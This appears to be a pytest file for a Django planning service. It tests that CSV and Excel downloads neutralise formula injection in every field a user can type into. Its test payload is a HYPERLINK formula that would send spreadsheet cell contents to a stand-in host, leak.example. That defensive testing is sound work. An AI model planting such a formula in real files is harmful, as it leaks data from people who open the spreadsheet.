"""No text a user typed runs as a formula in any spreadsheet or CSV file the service writes.

Every dangerous start (= + - @, tab, carriage return, and each of those after spaces) is
typed into every field that reaches a download: an action's title, partners, description,
success measures and commentary, its lead's name, its section, a recommendation and an
indicator. Every download is then read back: each of those cells must be text.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from improvement_board.spreadsheets import neutralise, starts_formula, unneutralise
from tests.factories import (
    ActionFactory,
    ActionUpdateFactory,
    IndicatorFactory,
    RecommendationFactory,
    SectionFactory,
    UserFactory,
)
from tests.urls import plan_url

pytestmark = pytest.mark.django_db

MARK = 'HYPERLINK("https://leak.example/?"&B2&C2,"Details")'
STARTS = ["=", "+", "-", "@", "\t", "\r", "  =", "  +", "  -", "  @", " \t"]
PAYLOADS = [f"{start}{MARK} {number}" for number, start in enumerate(STARTS)]


@pytest.fixture
def hostile_plan(plan, plan_manager):
    for number, payload in enumerate(PAYLOADS, start=1):
        section = SectionFactory(plan=plan, number=number, title=payload)
        lead = UserFactory(first_name=payload, last_name="", email="")
        plan.members.add(lead)
        action = ActionFactory(
            section=section,
            reference=f"{number}.01",
            title=payload,
            partners=payload,
            description=payload,
            success_measures=payload,
            lead=lead,
        )
        action.recommendations.add(RecommendationFactory(plan=plan, text=payload))
        ActionUpdateFactory(action=action, commentary=payload)
        IndicatorFactory(plan=plan, name=payload, owner=plan_manager)
    return plan


def exports(plan):
    section = plan.sections.order_by("number").first()
    query = {"plan": plan.slug}
    return {
        "plan CSV": (reverse("plan_files:export_csv", args=[plan.slug]), {}),
        "plan workbook": (reverse("plan_files:export_xlsx", args=[plan.slug]), {}),
        "all actions CSV": (plan_url("reports:all_actions"), query | {"export": "csv"}),
        "all actions workbook": (plan_url("reports:all_actions"), query | {"export": "xlsx"}),
        "section CSV": (
            reverse("reports:section", args=[section.plan.slug, section.pk]),
            {"export": "csv"},
        ),
        "section workbook": (
            reverse("reports:section", args=[section.plan.slug, section.pk]),
            {"export": "xlsx"},
        ),
        "indicator values template": (plan_url("indicators:import_template"), query),
    }


def text_cells(content: bytes) -> list[tuple[str, bool]]:
    """Every text cell of a download, and whether a spreadsheet would keep it as text."""
    if content.startswith(b"PK"):
        workbook = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula"
        return [
            # Kept as text: a string cell, marked with the quote prefix if retyping it
            # would start a formula.
            (cell.value, not starts_formula(cell.value) or cell.quotePrefix)
            for cell in cells
            if isinstance(cell.value, str)
        ]
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [(unneutralise(cell), not starts_formula(cell)) for row in rows for cell in row]


def test_every_download_keeps_every_dangerous_start_as_text(client, plan_manager, hostile_plan):
    client.force_login(plan_manager)
    for name, (url, query) in exports(hostile_plan).items():
        response = client.get(url, query)
        assert response.status_code == 200, name
        cells = [(text, safe) for text, safe in text_cells(response.content) if MARK in text]
        unsafe = [text for text, safe in cells if not safe]
        assert not unsafe, f"{name} writes formulas: {unsafe}"
        # XML turns a carriage return into a line feed: compare the texts as read.
        found = {text.replace("\r", "\n") for text, _ in cells}
        section_only = name.startswith("section")
        expected = {p.replace("\r", "\n") for p in (PAYLOADS[:1] if section_only else PAYLOADS)}
        assert expected <= found, f"{name} lost {expected - found}"


def test_the_plan_template_holds_no_formula(client, plan_manager):
    client.force_login(plan_manager)
    content = client.get(reverse("plan_files:import_template")).content
    assert all(safe for _, safe in text_cells(content))


@pytest.mark.parametrize("payload", PAYLOADS + ["'=already quoted", "- a bullet", "a=b", "+"])
def test_neutralised_text_reads_back_as_it_was_typed(payload):
    assert unneutralise(neutralise(payload)) == payload


@pytest.mark.parametrize("text", ["Plain text", "a=b", "'til then", "42", "", "   spaced"])
def test_harmless_text_is_written_as_it_is(text):
    assert neutralise(text) == text
